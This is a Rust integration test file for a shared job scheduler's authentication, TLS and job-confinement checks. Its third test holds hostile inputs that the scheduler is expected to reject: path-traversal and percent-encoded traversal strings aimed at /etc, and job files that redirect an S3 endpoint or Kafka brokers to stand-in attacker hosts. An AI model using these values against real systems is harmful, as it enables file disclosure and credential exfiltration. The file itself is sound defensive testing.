//! A shared scheduler's job service: calls need a user of the scheduler's users file (missing and wrong
//! credentials are refused, a user sees only their own runs), TLS and mutual TLS on its own address, and a
//! submitted job is confined to the warehouse and the roots the operator allowed, for every scheme.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use crate::flight::{certificates, users};
use crate::lifecycle::{Daemon, wait_for};
use crate::{repo_root, stderr, stdout};

/// `strata args` with `envs` (the login's password goes by environment, never by argument).
fn cli(args: &[&str], envs: &[(&str, &str)]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_strata"))
        .args(args)
        .current_dir(repo_root())
        .env_remove("STRATA_WAREHOUSE")
        .env_remove("STRATA_LEDGER")
        .env_remove("STRATA_SCHEDULER")
        .env_remove("STRATA_FLIGHT_USER")
        .env_remove("STRATA_FLIGHT_PASSWORD")
        .envs(envs.iter().copied())
        .output()
        .unwrap()
}

const ALICE: &[(&str, &str)] = &[
    ("STRATA_FLIGHT_USER", "alice"),
    ("STRATA_FLIGHT_PASSWORD", "wonder land"),
];
const BOB: &[(&str, &str)] = &[("STRATA_FLIGHT_USER", "bob"), ("STRATA_FLIGHT_PASSWORD", "hunter2")];
const MALLORY: &[(&str, &str)] = &[("STRATA_FLIGHT_USER", "alice"), ("STRATA_FLIGHT_PASSWORD", "guess")];

fn tiny_job(dir: &Path) -> PathBuf {
    let path = dir.join("tiny.sql");
    std::fs::write(&path, "CREATE TABLE smoke.one AS SELECT 1 AS one;\n").unwrap();
    path
}

fn executor(scheduler: &str, dir: &Path) -> Daemon {
    #[rustfmt::skip]
    let exec = Daemon::start(&[
        "--log", "info", "executor", "--scheduler", scheduler, "--vcores", "2", "--http-bind", "127.0.0.1:0",
        "--work-dir", dir.join("executor").to_str().unwrap(),
    ], &[], &["HTTP probes"]);
    wait_for(
        exec.addr("HTTP probes"),
        "/readyz",
        200,
        std::time::Duration::from_secs(30),
    );
    exec
}

#[test]
fn submissions_need_a_known_user_and_each_user_sees_only_their_runs() {
    let dir = tempfile::tempdir().unwrap();
    let users = users(dir.path());
    let wh = dir.path().join("wh");
    #[rustfmt::skip]
    let sched = Daemon::start(&[
        "--log", "info", "scheduler", "--bind", "127.0.0.1:0", "--warehouse", wh.to_str().unwrap(),
        "--users", users.to_str().unwrap(),
    ], &[], &["Scheduler"]);
    let addr = sched.addr("Scheduler").to_string();
    let _exec = executor(&addr, dir.path());
    let job = tiny_job(dir.path());
    let job = job.to_str().unwrap();

    // A login on the port Ballista's unauthenticated service shares would only look like protection.
    #[rustfmt::skip]
    let shared = cli(&[
        "scheduler", "--bind", "0.0.0.0:0", "--warehouse", wh.to_str().unwrap(), "--users", users.to_str().unwrap(),
    ], &[]);
    assert!(!shared.status.success());
    assert!(stderr(&shared).contains("needs --submit-bind"), "{}", stderr(&shared));

    let missing = cli(&["submit", job, "--scheduler", &addr], &[]);
    assert!(!missing.status.success());
    assert!(stderr(&missing).contains("authorization"), "{}", stderr(&missing));
    let wrong = cli(&["submit", job, "--scheduler", &addr], MALLORY);
    assert!(!wrong.status.success());
    assert!(
        stderr(&wrong).contains("invalid user name or password"),
        "{}",
        stderr(&wrong)
    );
    assert!(!stderr(&wrong).contains("guess"), "the password is never echoed");
    let nobody = cli(
        &["runs", "--scheduler", &addr],
        &[("STRATA_FLIGHT_USER", "carol"), ("STRATA_FLIGHT_PASSWORD", "x")],
    );
    assert!(!nobody.status.success(), "an unknown user is refused");

    let out = cli(
        &["--log-format", "json", "submit", job, "--scheduler", &addr, "--wait"],
        ALICE,
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let run: serde_json::Value = serde_json::from_str(stdout(&out).trim()).unwrap();
    assert_eq!(run["state"], "succeeded", "{run}");
    let run_id = run["run_id"].as_str().unwrap();

    let own = cli(&["--log-format", "json", "status", run_id, "--scheduler", &addr], ALICE);
    assert!(own.status.success(), "{}", stderr(&own));
    let other = cli(&["status", run_id, "--scheduler", &addr], BOB);
    assert!(!other.status.success(), "bob read alice's run");
    assert!(stderr(&other).contains("of yours"), "{}", stderr(&other));
    let listed = |who| {
        stdout(&cli(&["--log-format", "json", "runs", "--scheduler", &addr], who))
            .lines()
            .count()
    };
    assert_eq!((listed(ALICE), listed(BOB)), (1, 0));
    // What the run wrote is alice's job's table, and no log line holds a password.
    assert!(wh.join("smoke/one/_delta_log").exists());
    assert!(!sched.logs().contains("wonder land") && !sched.logs().contains("hunter2"));
}

/// A client certificate signed by the test CA of `certificates`: (cert, key).
pub(crate) fn client_certificate(dir: &Path) -> (PathBuf, PathBuf) {
    let p = |name: &str| dir.join(name).to_str().unwrap().to_string();
    let openssl = |args: &[&str]| {
        let out = Command::new("openssl").args(args).output().unwrap();
        assert!(out.status.success(), "openssl {args:?}: {}", stderr(&out));
    };
    #[rustfmt::skip]
    openssl(&["req", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=strata client", "-keyout", &p("client.key"),
        "-out", &p("client.csr")]);
    std::fs::write(dir.join("client.ext"), "extendedKeyUsage=clientAuth\n").unwrap();
    #[rustfmt::skip]
    openssl(&["x509", "-req", "-in", &p("client.csr"), "-CA", &p("ca.crt"), "-CAkey", &p("ca.key"),
        "-CAcreateserial", "-days", "2", "-extfile", &p("client.ext"), "-out", &p("client.crt")]);
    (dir.join("client.crt"), dir.join("client.key"))
}

#[test]
fn the_submission_port_serves_tls_and_requires_client_certificates_when_asked() {
    let dir = tempfile::tempdir().unwrap();
    let users = users(dir.path());
    let (ca, cert, key) = certificates(dir.path());
    let (client_cert, client_key) = client_certificate(dir.path());
    let wh = dir.path().join("wh");
    #[rustfmt::skip]
    let sched = Daemon::start(&[
        "--log", "info", "scheduler", "--bind", "127.0.0.1:0", "--warehouse", wh.to_str().unwrap(),
        "--users", users.to_str().unwrap(), "--submit-bind", "127.0.0.1:0",
        "--tls-cert", cert.to_str().unwrap(), "--tls-key", key.to_str().unwrap(),
        "--tls-client-ca", ca.to_str().unwrap(),
    ], &[], &["Scheduler", "Job service"]);
    let submit = sched.addr("Job service").to_string();
    let _exec = executor(sched.addr("Scheduler"), dir.path());
    let job = tiny_job(dir.path());
    let job = job.to_str().unwrap();
    let (ca, client_cert, client_key) = (
        ca.to_str().unwrap(),
        client_cert.to_str().unwrap(),
        client_key.to_str().unwrap(),
    );

    let plain = cli(&["submit", job, "--scheduler", &submit], ALICE);
    assert!(!plain.status.success(), "plain gRPC reached the TLS port");
    let no_cert = cli(&["submit", job, "--scheduler", &submit, "--tls-ca", ca], ALICE);
    assert!(
        !no_cert.status.success(),
        "a client without a certificate got through mutual TLS"
    );
    #[rustfmt::skip]
    let ok = cli(&[
        "--log-format", "json", "submit", job, "--scheduler", &submit, "--wait", "--tls-ca", ca,
        "--tls-client-cert", client_cert, "--tls-client-key", client_key,
    ], ALICE);
    assert!(ok.status.success(), "{}", stderr(&ok));
    assert!(stdout(&ok).contains("succeeded"), "{}", stdout(&ok));
    #[rustfmt::skip]
    let wrong = cli(&[
        "submit", job, "--scheduler", &submit, "--tls-ca", ca, "--tls-client-cert", client_cert,
        "--tls-client-key", client_key,
    ], MALLORY);
    assert!(!wrong.status.success(), "a certificate does not replace the password");
    // With its own address, the job service is not on the executors' port.
    let ballista = cli(&["submit", job, "--scheduler", sched.addr("Scheduler")], ALICE);
    assert!(!ballista.status.success(), "the job service answered on --bind too");
}

#[test]
fn submitted_jobs_stay_in_the_warehouse_and_the_allowed_roots_for_every_scheme() {
    let dir = tempfile::tempdir().unwrap();
    let wh = dir.path().join("wh");
    let shared = dir.path().join("shared");
    std::fs::create_dir_all(shared.join("prices")).unwrap();
    std::fs::write(shared.join("prices/p.csv"), "symbol,close\nA,1.5\n").unwrap();
    #[rustfmt::skip]
    let sched = Daemon::start(&[
        "--log", "info", "scheduler", "--bind", "127.0.0.1:0", "--warehouse", wh.to_str().unwrap(), "--insecure",
        "--allow-location", shared.to_str().unwrap(), "--allow-location", "s3://lake/shared",
        "--allow-location", "kafka://",
    ], &[], &["Scheduler"]);
    let addr = sched.addr("Scheduler").to_string();
    let submit = |location: &str, extra: &[&str]| {
        let job = dir.path().join("job.sql");
        std::fs::write(
            &job,
            format!(
                "CREATE EXTERNAL TABLE bronze.src (symbol VARCHAR, close DOUBLE) STORED AS CSV LOCATION '{location}'\n\
                 OPTIONS ('format.has_header' 'true');\n\
                 CREATE TABLE silver.out AS SELECT * FROM bronze.src;\n"
            ),
        )
        .unwrap();
        let mut args = vec!["submit", job.to_str().unwrap(), "--scheduler", &addr];
        args.extend_from_slice(extra);
        cli(&args, &[])
    };
    for escape in [
        "../../../../../../../../etc/",
        "/etc/",
        "file:///etc/",
        "shared/../../../etc/",
        "s3://lake/other/",
    ] {
        let out = submit(escape, &[]);
        assert!(!out.status.success(), "{escape} was accepted");
        let err = stderr(&out);
        assert!(err.contains("outside what this scheduler allows"), "{escape}: {err}");
        assert!(err.contains("bronze.src"), "the error names the table: {err}");
    }
    // Separators and dot segments hidden in percent-encoding (a reader would decode them).
    for hidden in [
        "..%2F..%2F..%2F..%2F..%2F..%2Fetc/",
        "%2e%2e/%2e%2e/%2e%2e/etc/",
        "s3://lake/shared/..%2Fother/",
    ] {
        let out = submit(hidden, &[]);
        assert!(!out.status.success(), "{hidden} was accepted");
        let err = stderr(&out);
        assert!(
            err.contains("percent-encoding") || err.contains("outside"),
            "{hidden}: {err}"
        );
    }
    let lookalike = format!("{}-evil/", shared.display());
    assert!(
        !submit(&lookalike, &[]).status.success(),
        "a sibling directory with the root's prefix"
    );
    // Inside an allowed root or the warehouse, the job is planned and taken.
    let allowed = submit(&format!("{}/prices/", shared.display()), &[]);
    assert!(allowed.status.success(), "{}", stderr(&allowed));
    // A submitter cannot move the warehouse outside either.
    let moved = submit(&format!("{}/prices/", shared.display()), &["--warehouse", "/etc"]);
    assert!(!moved.status.success());
    assert!(stderr(&moved).contains("warehouse"), "{}", stderr(&moved));
    // A submitted job cannot re-point a bucket at another endpoint (bucket settings are process-wide).
    let job = dir.path().join("endpoint.sql");
    std::fs::write(
        &job,
        "CREATE EXTERNAL TABLE bronze.src (symbol VARCHAR) STORED AS DELTA LOCATION 's3://lake/shared/t'\n\
         OPTIONS ('endpoint' 'http://attacker.example:9000', 'allow_http' 'true');\n\
         CREATE TABLE silver.out AS SELECT * FROM bronze.src;\n",
    )
    .unwrap();
    let out = cli(&["submit", job.to_str().unwrap(), "--scheduler", &addr], &[]);
    assert!(!out.status.success());
    assert!(stderr(&out).contains("location options"), "{}", stderr(&out));
    // Nor choose the Kafka brokers, or how to reach them (the deployment's SASL credentials would go along).
    let job = dir.path().join("kafka.sql");
    std::fs::write(
        &job,
        "CREATE EXTERNAL TABLE bronze.ticks (symbol VARCHAR) STORED AS KAFKA LOCATION 'kafka:///ticks'\n\
         OPTIONS ('kafka.security.protocol' 'SASL_PLAINTEXT');\n\
         CREATE TABLE silver.out AS SELECT * FROM bronze.ticks;\n",
    )
    .unwrap();
    let out = cli(&["submit", job.to_str().unwrap(), "--scheduler", &addr], &[]);
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("'kafka.security.protocol' is not taken"),
        "{}",
        stderr(&out)
    );
    #[rustfmt::skip]
    let brokers = cli(&[
        "submit", job.to_str().unwrap(), "--scheduler", &addr, "--kafka-brokers", "evil.example:9092",
    ], &[]);
    assert!(!brokers.status.success());
    assert!(
        stderr(&brokers).contains("cannot choose the Kafka brokers"),
        "{}",
        stderr(&brokers)
    );
    // Kafka and PostgreSQL locations are confined by the same rule.
    for (location, format) in [
        ("kafka://evil.example:9092/ticks", "KAFKA"),
        ("postgres://db.example/x?table=t", "POSTGRES"),
    ] {
        let job = dir.path().join("other.sql");
        std::fs::write(
            &job,
            format!(
                "CREATE EXTERNAL TABLE bronze.src (symbol VARCHAR) STORED AS {format} LOCATION '{location}';\n\
                 CREATE TABLE silver.out AS SELECT * FROM bronze.src;\n"
            ),
        )
        .unwrap();
        let out = cli(&["submit", job.to_str().unwrap(), "--scheduler", &addr], &[]);
        assert!(!out.status.success(), "{location} was accepted");
        assert!(
            stderr(&out).contains("outside what this scheduler allows"),
            "{location}: {}",
            stderr(&out)
        );
    }
}
